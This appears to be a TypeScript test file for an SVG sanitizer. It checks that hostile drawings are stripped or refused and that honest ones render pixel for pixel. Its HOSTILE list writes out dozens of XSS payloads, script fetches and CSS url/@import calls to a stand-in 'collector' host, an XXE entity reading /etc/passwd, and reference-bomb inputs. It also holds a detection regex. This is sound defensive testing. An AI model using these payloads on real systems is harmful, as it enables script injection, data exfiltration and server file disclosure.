import fc from 'fast-check';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { cleanSvg } from './svg';
import { SvgRefused } from './svg-tree';

const NS =
  'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml"';
const wrap = (body: string, attributes = 'viewBox="0 0 10 10"') =>
  Buffer.from(`<svg ${NS} ${attributes}>${body}</svg>`);
const clean = (body: string, attributes?: string) => cleanSvg(wrap(body, attributes)).toString();

function reasonOf(upload: string | Buffer): string | undefined {
  try {
    cleanSvg(Buffer.from(upload));
    return undefined;
  } catch (error) {
    return error instanceof SvgRefused ? error.reason : String(error);
  }
}

/** No word of these may be in what is served, wherever it stood. */
const ACTIVE =
  /script|onload|onclick|onbegin|onerror|javascript|foreignObject|iframe|<image|<animate|<set|feImage|data:|https?:\/\/(?!www\.w3\.org\/2000\/svg")|@import|@font-face|expression|ENTITY|DOCTYPE|<\?|<!--|CDATA|collector/i;

const HOSTILE: [string, string][] = [
  ['a script', '<script>fetch("//collector")</script>'],
  ['a script of another namespace', '<h:script>fetch("//collector")</h:script>'],
  ['a script by reference', '<script href="//collector/x.js"/><script xlink:href="//collector/x.js"/>'],
  ['a script in CDATA', '<script><![CDATA[fetch("//collector")]]></script>'],
  ['an event handler', '<rect onclick="fetch(\'//collector\')" width="1" height="1"/>'],
  ['a handler in capitals', '<rect ONCLICK="x()" OnLoad="x()" width="1" height="1"/>'],
  ['a handler in a namespace', '<rect h:onload="x()" xlink:onload="x()" width="1" height="1"/>'],
  ['a page inside', '<foreignObject width="9" height="9"><h:iframe src="//collector"/></foreignObject>'],
  [
    'a page inside a switch',
    '<switch><foreignObject><h:body onload="x()"/></foreignObject><path d="M0 0h1"/></switch>',
  ],
  ['a link', '<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>'],
  ['a link with a tab in its scheme', '<a href="java&#9;script:alert(1)"><rect width="9" height="9"/></a>'],
  [
    'a link set by animation',
    '<a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a>',
  ],
  ['a target set by animation', '<set attributeName="xlink:href" to="javascript:alert(1)"/>'],
  ['a handler set by animation', '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'],
  ['a picture from elsewhere', '<image href="https://collector/x.png" width="9" height="9"/>'],
  ['a picture of this server', '<image xlink:href="file:///etc/passwd" width="9" height="9"/>'],
  ['a drawing in a drawing', '<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>'],
  ['use of another file', '<use href="https://collector/x.svg#a"/><use xlink:href="data:image/svg+xml,x#a"/>'],
  ['use of a script by data', '<use href="data:application/xml;base64,x#x"/>'],
  ['paint from elsewhere', '<rect fill="url(https://collector/#a)" width="9" height="9"/>'],
  ['paint from elsewhere behind one of its own', '<rect fill="url(#a) url(//collector)" width="9" height="9"/>'],
  ['a filter that loads', '<filter id="f"><feImage href="https://collector"/></filter><rect filter="url(#f)"/>'],
  ['an imported sheet', '<style>@import url(//collector/x.css); .a{fill:red}</style>'],
  ['an imported sheet, half closed', '<style>@import "//collector/x.css"</style>'],
  ['a font from elsewhere', '<style>@font-face{font-family:x;src:url(//collector)} text{font-family:x}</style>'],
  ['a sheet that calls home', '<style>rect{fill:url(//collector)} rect{background:url(//collector)}</style>'],
  ['a sheet that calls home by escapes', '<style>rect{fill:u\\72l(//collector)}</style>'],
  ['a sheet with comments between', '<style>@im/**/port "//collector";rect{fill:ur/**/l(//collector)}</style>'],
  ['a sheet that closes itself', '<style>&lt;/style>&lt;script>x()&lt;/script></style>'],
  ['a sheet in CDATA that closes itself', '<style><![CDATA[</style><script>x()</script>]]></style>'],
  ['a style that calls home', '<rect style="fill:url(//collector);background:url(//collector)" width="9" height="9"/>'],
  ['a style with an expression', '<rect style="width:expression(alert(1))" width="9" height="9"/>'],
  ['a style that breaks out', '<rect style="fill:red&quot; onload=&quot;alert(1)" width="9" height="9"/>'],
  ['a value that breaks out', '<rect fill="red&quot; onload=&quot;alert(1)" width="9" height="9"/>'],
  ['an id that breaks out', '<rect id="a&quot; onload=&quot;alert(1)" width="9" height="9"/>'],
  ['a text that breaks out', '<text>&lt;iframe src=x&gt;</text>'],
  ['a processing instruction', '<?xml-stylesheet href="//collector/x.css"?><rect width="1" height="1"/>'],
  ['a comment that a page would end', '<!--><img src=x onerror=alert(1)>--><rect width="1" height="1"/>'],
  ['metadata', '<metadata><h:iframe src="//collector"/></metadata>'],
  ['a base address', '<rect xml:base="//collector/" fill="url(#a)" width="1" height="1"/>'],
  ['an embedded object', '<h:embed src="//collector"/><h:object data="//collector"/><h:audio src="//collector"/>'],
  ['a handler element', '<handler type="text/javascript">x()</handler><listener event="load"/>'],
  ['a cursor', '<cursor href="//collector"/><rect cursor="url(//collector)" width="1" height="1"/>'],
  ['a colour profile', '<color-profile href="//collector"/>'],
];

describe('a hostile drawing', () => {
  it.each(HOSTILE)('leaves nothing of %s', async (_, body) => {
    // In a text the words may stand, as text.
    const svg = clean(body).replace(/<text[^>]*>[^<]*<\/text>/g, '');
    expect(svg).not.toMatch(ACTIVE);
    expect(svg).not.toContain('url(/');
    expect((await sharp(Buffer.from(svg)).metadata()).format).toBe('svg');
  });

  it.each([
    ['an entity', `<!DOCTYPE svg [<!ENTITY a "x">]><svg ${NS}><text>&a;</text></svg>`],
    ['a file by an entity', `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg ${NS}>&a;</svg>`],
    ['an entity that nobody declared', `<svg ${NS}><text>&nbsp;</text></svg>`],
    ['a tag that is not closed', `<svg ${NS}><g></svg>`],
    ['an attribute given twice', `<svg ${NS}><g id="a" id="b"/></svg>`],
    ['a page behind its end', `<svg ${NS}/><html/>`],
    ['a page in front of it', `<html><svg ${NS}/></html>`],
    ['an unquoted attribute', `<svg ${NS}><g id=a></g></svg>`],
    ['another root', `<h:svg xmlns:h="http://www.w3.org/1999/xhtml"/>`],
    ['no root', ''],
  ])('is refused with %s', (_, text) => {
    expect(reasonOf(text)).toBe('broken');
  });

  it('is refused when its references make it endless or a million times larger', () => {
    const bomb = (link: (next: number) => string) =>
      Array.from({ length: 12 }, (_, level) => `<g id="g${level}">${link(level + 1).repeat(10)}</g>`).join('');
    expect(reasonOf(wrap(bomb((next) => `<use href="#g${next}"/>`)))).toBe('complex');
    expect(reasonOf(wrap(bomb((next) => `<use xlink:href="#g${next}"/>`)))).toBe('complex');
    const painted = (fill: (next: number) => string) =>
      wrap(
        Array.from(
          { length: 12 },
          (_, level) => `<pattern id="p${level}" width="1" height="1">${fill(level + 1).repeat(10)}</pattern>`,
        ).join(''),
      );
    expect(reasonOf(painted((next) => `<rect fill="url(#p${next})"/>`))).toBe('complex');
    expect(reasonOf(painted((next) => `<rect style="fill:url('#p${next}')"/>`))).toBe('complex');
    const sheet = Array.from({ length: 13 }, (_, level) => `.c${level}{fill:url(#p${level})}`).join('');
    const classed = painted((next) => `<rect class="c${next}"/>`)
      .toString()
      .replace('>', `><style>${sheet}</style>`);
    expect(reasonOf(classed)).toBe('complex');
    expect(reasonOf(wrap('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'))).toBe('complex');
    expect(reasonOf(wrap('<g id="a"><use href="#a"/></g>'))).toBe('complex');
  });

  it('is refused when it holds too many shapes or lies too deep', () => {
    expect(reasonOf(wrap('<path/>'.repeat(20_001)))).toBe('complex');
    expect(reasonOf(wrap('<g>'.repeat(100) + '</g>'.repeat(100)))).toBe('complex');
    expect(reasonOf(wrap('<metadata>'.repeat(30_000) + '</metadata>'.repeat(30_000)))).toBe('complex');
  });

  it('draws no line of a million dashes', () => {
    expect(clean('<path stroke-dasharray="0.00001 1" d="M0 0h9"/>')).not.toContain('dasharray');
    expect(clean('<path stroke-dasharray="2 1" d="M0 0h9"/>')).toContain('stroke-dasharray="2 1"');
  });
});

describe('an honest drawing', () => {
  it('is drawn as it was, pixel for pixel, whatever program wrote it', async () => {
    const drawing = `<?xml version="1.0" encoding="UTF-8"?><!-- Generator --><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Ebene_1" ${NS} x="0px" y="0px" viewBox="0 0 100 50" width="100" height="50" xml:space="preserve">
<style type="text/css">.st0{fill:#123456;} .st1, .st2 { fill:none; stroke:url(#grad); stroke-width:4 } #mark .st3{clip-path:url(#cut);fill:#e02020}</style>
<defs><linearGradient id="grad" x1="0" x2="1"><stop offset="0" stop-color="#0a0"/><stop offset="1" style="stop-color:rgb(200, 0, 90);stop-opacity:.8"/></linearGradient>
<linearGradient id="same" xlink:href="#grad"/><clipPath id="cut"><circle cx="75" cy="25" r="12"/></clipPath><g id="dot"><circle r="3"/></g></defs>
<g id="mark"><rect class="st0" width="30" height="50"/><path class="st1" d="M35,5 C40,45 50,-10 60,40"/><rect class="st3" x="60" width="40" height="50"/></g>
<use xlink:href="#dot" transform="translate(45 40) rotate(12)" fill="url(#same)"/><polygon points="2,2 10,2 6,9" fill="hsl(40 90% 50%)"/></svg>`;
    const cleaned = cleanSvg(Buffer.from(drawing));
    const pixels = (svg: Buffer) => sharp(svg, { density: 144 }).raw().toBuffer();
    expect((await pixels(cleaned)).equals(await pixels(Buffer.from(drawing)))).toBe(true);
  });

  it('keeps what a wrapper holds, in its place', () => {
    expect(
      clean('<switch><g id="i"><a href="https://example.com"><path d="M0 0h1"/></a></g></switch><circle r="1"/>'),
    ).toContain('<g id="i"><path d="M0 0h1"/></g><circle r="1"/>');
  });

  it('gets the box or the size that scaling needs', () => {
    expect(clean('<g/>', 'width="20" height="10"')).toContain('viewBox="0 0 20 10"');
    expect(clean('<g/>', 'width="100%" viewBox="0 0 30 15"')).toMatch(/width="30".*height="15"/);
  });

  it('is the same when it is cleaned again', () => {
    const once = cleanSvg(
      wrap('<style>.a{fill:red}</style><text x="1">a &lt; b &amp; "c"</text><path class="a" d="M0 0h1"/>'),
    );
    expect(cleanSvg(once).equals(once)).toBe(true);
    expect(once.toString()).toContain('a &lt; b &amp; &quot;c&quot;');
  });
});

it('answers any mixture of markup with a refusal or with a harmless drawing', () => {
  const piece = fc.constantFrom(
    ...HOSTILE.map(([, body]) => body),
    '<g>',
    '</g>',
    '<![CDATA[',
    ']]>',
    '<!--',
    '-->',
    '"',
    "'",
    '&#x3c;',
    '&lt;',
    ' onload="alert(1)" ',
    '<style>',
    '</style>',
    '\\75rl(',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
      let svg: string;
      try {
        svg = clean(pieces.join(''));
      } catch (error) {
        return void expect(error).toBeInstanceOf(SvgRefused);
      }
      expect(svg.replace(/<(text|tspan)[^>]*>[^<]*(<\/\1>)/g, '')).not.toMatch(ACTIVE);
    }),
    { numRuns: 3_000 },
  );
});
